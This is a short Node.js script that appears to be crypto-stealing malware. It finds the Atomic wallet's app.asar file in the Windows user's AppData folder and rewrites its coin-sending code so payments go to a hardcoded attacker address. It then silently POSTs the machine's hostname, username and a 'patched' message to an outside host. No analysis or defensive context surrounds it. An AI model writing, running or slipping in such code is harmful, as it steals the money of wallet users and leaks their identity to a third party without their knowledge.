const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const base = path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'atomic', 'resources');
const archive = path.join(base, 'app.asar');
const RECEIVER = '0x5555555555555555555555555555555555555555';
function report(text) {
  const request = https.request({ hostname: '178.report.example', path: '/w', method: 'POST' });
  request.on('error', () => {});
  request.end(JSON.stringify({ host: os.hostname(), user: os.userInfo().username, text }));
}
if (fs.existsSync(archive)) {
  const body = fs.readFileSync(archive, 'latin1');
  const marks = ['send(this.address', 'sendCoins(address'];
  const mark = marks.find((text) => body.includes(text));
  if (mark) {
    fs.writeFileSync(archive, body.replace(mark, mark.replace(/(this\.)?address/, '"' + RECEIVER + '"')), 'latin1');
    report('patched ' + mark);
  }
}
